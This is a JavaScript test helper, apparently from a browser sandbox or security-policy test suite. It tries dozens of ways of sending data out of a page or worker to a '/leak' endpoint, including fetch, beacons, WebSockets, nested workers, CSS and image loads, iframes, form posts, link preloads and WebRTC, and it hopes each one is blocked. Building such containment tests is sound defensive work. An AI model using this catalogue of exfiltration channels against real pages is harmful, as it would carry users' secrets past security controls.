// Every way out of a page or a worker that is known to us, tried at one host. Defines `waysOut(base, place)`, which tries them all,
// each with its own name in the address, and resolves to the names tried after giving them time.
// `place` is "page" or "worker". Nothing here is part of the product.
async function waysOut(base, place) {
  const tried = [];
  const keep = [];
  const at = (way) => `${base}/leak/${place}/${way}?secret=1`;
  const ws = base.replace("http", "ws");
  const go = (way, attempt) => {
    tried.push(way);
    try {
      const outcome = attempt(at(way), way);
      keep.push(outcome);
      // An error in a worker's worker would end its parent's turn, too.
      if (typeof Worker === "function" && outcome instanceof Worker) outcome.onerror = (event) => event.preventDefault();
      if (outcome && outcome.catch) outcome.catch(() => {});
    } catch {
      // Stopped at once: that is what is hoped for.
    }
  };
  const code = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));

  go("fetch", (to) => fetch(to));
  go("fetch-no-cors", (to) => fetch(to, { mode: "no-cors", method: "POST", body: "secret" }));
  go("fetch-keepalive", (to) => fetch(to, { mode: "no-cors", keepalive: true }));
  go("xhr", (to) => { const x = new XMLHttpRequest(); x.open("GET", to); x.send(); return x; });
  go("websocket", (to, way) => new WebSocket(`${ws}/leak/${place}/${way}`));
  go("eventsource", (to) => new EventSource(to));
  go("dynamic-import", (to) => import(to));
  go("font-face", (to) => { const f = new FontFace("leak", `url(${to})`); return f.load(); });
  go("webtransport", (to) => new WebTransport(to.replace("http:", "https:")).ready);
  go("cache-add", async (to) => (await caches.open("leak")).add(to));
  go("worker-from-address", (to) => new Worker(to));
  go("module-worker-from-address", (to) => new Worker(to, { type: "module" }));
  go("nested-worker-fetch", (to) => new Worker(code(`fetch(${JSON.stringify(to)}).catch(() => {})`)));
  go("nested-worker-import-scripts", (to) => new Worker(code(`importScripts(${JSON.stringify(to)})`)));
  go("nested-module-worker-import", (to) => new Worker(code(`import ${JSON.stringify(to)}`), { type: "module" }));
  go("nested-worker-xhr", (to) => new Worker(code(`const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(to)}); x.send()`)));
  go("nested-worker-websocket", (to, way) => new Worker(code(`new WebSocket(${JSON.stringify(`${ws}/leak/${place}/${way}`)})`)));

  if (place === "worker") {
    go("import-scripts", (to) => importScripts(to));
  } else {
    const add = (name, set, parent = document.body) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(set)) element.setAttribute(key, value);
      parent.append(element);
      return element;
    };
    const styled = (way, text) => go(way, (to) => { const s = document.createElement("style"); s.textContent = text(to); document.head.append(s); });
    go("beacon", (to) => navigator.sendBeacon(to, "secret"));
    go("shared-worker", (to) => new SharedWorker(to));
    go("service-worker", (to) => navigator.serviceWorker.register(to));
    go("image", (to) => { const i = new Image(); i.src = to; return i; });
    go("image-srcset", (to) => add("img", { srcset: `${to} 1x` }));
    go("image-of-svg", (to) => { document.body.insertAdjacentHTML("beforeend", `<svg width="9" height="9"><image href="${to}" width="9" height="9"/></svg>`); });
    go("input-image", (to) => add("input", { type: "image", src: to, alt: "" }));
    go("script", (to) => { const s = document.createElement("script"); s.src = to; document.head.append(s); });
    go("script-module", (to) => { const s = document.createElement("script"); s.type = "module"; s.src = to; document.head.append(s); });
    go("style-link", (to) => add("link", { rel: "stylesheet", href: to }, document.head));
    styled("css-import", (to) => `@import url(${to});`);
    styled("css-font", (to) => `@font-face { font-family: leaked; src: url(${to}); } body { font-family: leaked, sans-serif; }`);
    styled("css-background", (to) => `html { background-image: url(${to}); }`);
    go("css-constructed", (to) => { const s = new CSSStyleSheet(); s.replaceSync(`body { background-image: url(${to}) }`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; });
    go("element-style", (to) => { document.body.style.backgroundImage = `url(${to})`; });
    go("element-style-cursor", (to) => { document.documentElement.style.cursor = `url(${to}), auto`; });
    go("iframe", (to) => add("iframe", { src: to }));
    go("iframe-of-text", (to) => add("iframe", { srcdoc: `<img src="${to}"><script>fetch("${to}")</script>` }));
    go("iframe-empty", (to) => { const f = add("iframe", {}); f.contentWindow.fetch(to).catch(() => {}); const i = f.contentDocument.createElement("img"); i.src = to; f.contentDocument.body.append(i); });
    go("object", (to) => add("object", { data: to }));
    go("embed", (to) => add("embed", { src: to }));
    go("form-to-frame", (to) => {
      const frame = add("iframe", { name: `sink${Math.random()}` });
      const form = add("form", { action: to, method: "post", target: frame.name });
      form.submit();
    });
    go("prefetch", (to) => add("link", { rel: "prefetch", href: to }, document.head));
    go("preconnect", (to) => add("link", { rel: "preconnect", href: to }, document.head));
    go("preload-image", (to) => add("link", { rel: "preload", as: "image", href: to }, document.head));
    go("preload-script", (to) => add("link", { rel: "preload", as: "script", href: to }, document.head));
    go("modulepreload", (to) => add("link", { rel: "modulepreload", href: to }, document.head));
    go("manifest", (to) => add("link", { rel: "manifest", href: to }, document.head));
    go("icon", (to) => add("link", { rel: "icon", href: to }, document.head));
    go("audio", (to) => { const a = new Audio(to); a.load(); return a; });
    go("video", (to) => add("video", { src: to, preload: "auto" }));
    go("video-poster", (to) => add("video", { poster: to }));
    go("video-track", (to) => {
      const v = add("video", { crossorigin: "anonymous" });
      const t = add("track", { src: to, kind: "subtitles", default: "" }, v);
      t.track.mode = "showing";
    });
    go("ping", (to) => { const a = add("a", { href: "#", ping: to }); a.click(); });
    go("webrtc", (to) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
      peer.createDataChannel("leak");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    });
  }
  await new Promise((resolve) => setTimeout(resolve, 2500));
  globalThis.waysOutKept = keep;
  return tried;
}
